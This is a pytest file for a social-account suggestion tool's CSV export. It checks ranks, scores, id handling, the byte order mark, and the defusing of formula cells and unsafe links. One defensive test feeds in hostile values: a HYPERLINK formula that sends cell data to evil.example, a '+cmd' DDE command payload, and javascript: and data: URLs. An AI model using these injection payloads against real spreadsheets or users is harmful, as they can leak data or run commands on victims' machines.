"""The spreadsheet CSV of connect's suggestions (staffpulse.connect.export, ``--export csv``):
its columns, ranks and scores as the terminal shows them, cells a spreadsheet cannot run as
formulas, safe links, ids kept whole, and the byte order mark Excel needs."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from connect_fixtures import SUGGESTIONS, make_suggestion
from staffpulse.connect.explanation import Explanation
from staffpulse.connect.export import CSV_COLUMNS, export_suggestions, write_export
from staffpulse.report.links import safe_link


def test_csv_round_trips() -> None:
    result = export_suggestions(SUGGESTIONS, "csv")
    rows = list(csv.DictReader(io.StringIO(result.text)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["handle"] for r in rows] == [s.handle for s in SUGGESTIONS]
    assert rows[0]["display_name"] == "Name, rita_recruits"
    assert rows[0]["explanation"] == SUGGESTIONS[0].explanation
    # shares of the last posts, named for what they are (not the audit's pillar scores)
    assert rows[0]["replies_pct"] == "" and rows[0]["personal_posts_pct"] == "80"
    assert "voice" not in rows[0] and "conversation" not in rows[0]


def test_csv_leaves_the_shares_empty_when_too_few_posts_to_judge() -> None:
    """The explanation says "too few to judge voice and conversation": no figure beside it."""
    few = replace(SUGGESTIONS[0], voice=100, conversation=100, judged=1)
    enough = replace(SUGGESTIONS[0], voice=100, conversation=33, judged=10)
    rows = list(csv.DictReader(io.StringIO(export_suggestions([few, enough], "csv").text)))
    assert (rows[0]["personal_posts_pct"], rows[0]["replies_pct"]) == ("", "")
    assert (rows[1]["personal_posts_pct"], rows[1]["replies_pct"]) == ("100", "33")


def test_csv_role_reads_as_people_write_it_and_keeps_the_id_for_scripts() -> None:
    """A spreadsheet user saw ``hr_pro`` where the terminal and the web say "HR pro"."""
    roles = ["hr_pro", "staffing_firm", "job_board", None]
    picks = [
        replace(make_suggestion(i, f"a{i}", str(i)), role=r) for i, r in enumerate(roles, start=1)
    ]
    rows = list(csv.DictReader(io.StringIO(export_suggestions(picks, "csv").text)))
    assert [(r["role"], r["role_id"]) for r in rows] == [
        ("HR pro", "hr_pro"),
        ("staffing firm", "staffing_firm"),
        ("job board", "job_board"),
        ("", ""),
    ]
    # an account with nothing to read: the line says "role unknown" and so does the cell,
    # rather than an empty cell a spreadsheet user reads as a missing value
    unread = replace(
        picks[3], reasons=Explanation(None, ("you replied to them 2×",), role_unknown=True)
    )
    (row,) = csv.DictReader(io.StringIO(export_suggestions([unread], "csv").text))
    assert (row["role"], row["role_id"]) == ("role unknown", "")
    assert row["explanation"] == "role unknown · you replied to them 2×"


def test_csv_gives_tied_accounts_one_rank_a_spreadsheet_sorts_by() -> None:
    """A follow list's followers, all scored alike, read as ranks 2, 3, 4 in the CSV where the
    terminal says =2 for each: they now share rank 2 and say how many others share it."""
    picks = [
        replace(make_suggestion(1, "lead", "1"), score=75.0),
        *(replace(make_suggestion(i, f"fan{i}", str(i)), score=16.5) for i in (2, 3, 4)),
        replace(make_suggestion(5, "last", "5"), score=3.0),
    ]
    rows = list(csv.DictReader(io.StringIO(export_suggestions(picks, "csv").text)))
    assert [(r["rank"], r["tied_with"]) for r in rows] == [
        ("1", "0"),
        ("2", "2"),
        ("2", "2"),
        ("2", "2"),
        ("5", "0"),
    ]


def test_csv_keeps_a_far_weaker_score_above_zero() -> None:
    weak = [
        replace(make_suggestion(1, "top", "1"), score=100.0),
        replace(make_suggestion(2, "weak", "2"), score=0.00047),
    ]
    rows = list(csv.DictReader(io.StringIO(export_suggestions(weak, "csv").text)))
    assert [r["score"] for r in rows] == ["100.0", "0.00047"]


def test_csv_scores_are_the_figures_the_table_shows() -> None:
    """The table said 84 and 12 where the CSV said 83.5 and 12.2 (QA s36): one decimal in both,
    and two accounts that both show 5.5 share a rank in the CSV as in the table."""
    picks = [
        replace(make_suggestion(1, "lead", "1"), score=83.47),
        replace(make_suggestion(2, "mid", "2"), score=12.2),
        replace(make_suggestion(3, "near", "3"), score=5.54),
        replace(make_suggestion(4, "nearer", "4"), score=5.51),
    ]
    rows = list(csv.DictReader(io.StringIO(export_suggestions(picks, "csv").text)))
    assert [r["score"] for r in rows] == ["83.5", "12.2", "5.5", "5.5"]
    assert [r["score"] for r in rows] == [s.score_text for s in picks]
    assert [(r["rank"], r["tied_with"]) for r in rows] == [
        ("1", "0"),
        ("2", "0"),
        ("3", "1"),
        ("3", "1"),
    ]


def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
    hostile = replace(
        make_suggestion(1, "evil_staff", "1", url="javascript:alert(2)"),
        display_name='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        role="+cmd|'/C calc'!A0",
        reasons=Explanation(None, ("-2+3 @SUM(A1) and more",)),
    )
    tabbed = replace(make_suggestion(2, "tab", "2", url="data:text/html,x"), display_name="\t=1+1")
    carriage = replace(
        make_suggestion(3, "cr", "3", url=" HTTPS://x.com/cr "), display_name="\r=1+1"
    )
    plain = replace(make_suggestion(4, "plain", "4"), display_name="José · Staffing × HR (A+)")
    rows = list(
        csv.DictReader(
            io.StringIO(
                export_suggestions([hostile, tabbed, carriage, plain], "csv").text, newline=""
            )
        )
    )
    assert rows[0]["display_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    assert rows[0]["role"] == rows[0]["role_id"] == "'+cmd|'/C calc'!A0"
    assert rows[0]["explanation"] == "'-2+3 @SUM(A1) and more"
    assert rows[1]["display_name"] == "'\t=1+1" and rows[2]["display_name"] == "'\r=1+1"
    assert rows[3]["display_name"] == "José · Staffing × HR (A+)"  # ordinary text untouched
    for row in rows:
        for column, cell in row.items():
            if column not in ("rank", "score", "voice", "conversation"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # javascript: and data: addresses are dropped; X accounts get their x.com address instead
    assert [r["url"] for r in rows] == [
        "https://x.com/evil_staff",
        "https://x.com/tab",
        "HTTPS://x.com/cr",
        "https://x.com/plain",
    ]


def test_csv_url_is_a_safe_address_of_a_valid_handle_or_id() -> None:
    too_long = make_suggestion(1, "recruiting_desk_northwest", "6")
    unseen = replace(
        make_suggestion(2, "1357924680135792468", "1357924680135792468"), handle_known=False
    )
    mastodon = make_suggestion(3, "val@hr.social", "109", platform="mastodon", url="javascript:x")
    did = "did:plc:ewvi7nxzyoun6zhxrhs64oiz"
    bluesky = replace(make_suggestion(4, did, did, platform="bluesky"), handle_known=False)
    odd = replace(make_suggestion(5, "x1", "not-an-id"), handle_known=False)
    suggestions = [too_long, unseen, mastodon, bluesky, odd]
    rows = list(csv.DictReader(io.StringIO(export_suggestions(suggestions, "csv").text)))
    assert [r["url"] for r in rows] == [
        "",
        "https://x.com/i/user/1357924680135792468",  # X's address by numeric id
        # the stored javascript: URL is never given; the address names the profile page
        "https://hr.social/@val",
        f"https://bsky.app/profile/{did}",
        "",
    ]


def test_csv_account_known_only_by_id_has_no_handle_and_a_text_id() -> None:
    """A 19-digit id read as a number by a spreadsheet shows as 1.00599E+18 and loses its last
    digits; unknown handles and roles stay empty instead of repeating the id or guessing."""
    unseen = replace(
        make_suggestion(1, "1357924680135792468", "1357924680135792468"),
        handle_known=False,
        role=None,
    )
    digits_handle = make_suggestion(2, "2024", "77")  # X allows an all-digit handle
    rows = list(
        csv.DictReader(io.StringIO(export_suggestions([unseen, digits_handle], "csv").text))
    )
    assert (rows[0]["handle"], rows[0]["id"], rows[0]["role"]) == (
        "",
        "'1357924680135792468",
        "",
    )
    assert (rows[1]["handle"], rows[1]["id"], rows[1]["role"]) == ("'2024", "'77", "recruiter")
    line = export_suggestions(SUGGESTIONS[1:2], "csv").text.splitlines()[1]
    assert line.split(",")[CSV_COLUMNS.index("id")] == (
        "did:plc:ewvi7nxzyoun6zhxrhs64oiz"  # ids that are not numbers stay as they are
    )


def test_csv_file_has_a_byte_order_mark_for_excel(tmp_path: Path) -> None:
    named = replace(make_suggestion(1, "jose", "1"), display_name="José · Staffing × HR")
    result = export_suggestions([named], "csv")
    out = tmp_path / "who.csv"
    write_export(result, out)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data == result.data()
    assert "José · Staffing × HR" in data.decode("utf-8-sig")
    # the platform files stay plain UTF-8: their importers expect no BOM
    mastodon = export_suggestions(SUGGESTIONS, "mastodon-follows")
    assert not mastodon.data().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    "url",
    ["https://x.com/rita", "  HTTP://x.com/rita  ", "javascript:alert(1)", "data:text/html,x", ""],
)
def test_the_csv_links_exactly_what_the_html_reports_link(url: str) -> None:
    # one rule for every page and file: a stored address is kept only when it is http(s)
    suggestion = make_suggestion(
        1, "recruiting_desk_northwest", "6", url=url
    )  # no X address to fall back on
    (row,) = csv.DictReader(io.StringIO(export_suggestions([suggestion], "csv").text))
    assert row["url"] == (safe_link(url) or "")


def test_json_and_csv_give_the_same_link_for_every_account() -> None:
    # a tester saw "url": null in --json where the CSV had https://x.com/priya_hrlife
    suggestions = [
        make_suggestion(1, "priya_hrlife", "42"),  # X, no stored URL
        make_suggestion(
            2,
            "1357924680135792468",
            "1357924680135792468",
        ),  # X, known only by its id
        *SUGGESTIONS,
    ]
    suggestions[1] = replace(suggestions[1], handle_known=False)
    rows = list(csv.DictReader(io.StringIO(export_suggestions(suggestions, "csv").text)))
    as_json = [s.as_dict()["url"] for s in suggestions]
    assert as_json[0] == "https://x.com/priya_hrlife"
    assert as_json[1] == "https://x.com/i/user/1357924680135792468"
    assert [row["url"] or None for row in rows] == as_json
    # a Bluesky handle without a DID: its profile page by handle, in both
    assert as_json[-1] == "https://bsky.app/profile/ben.example.com"
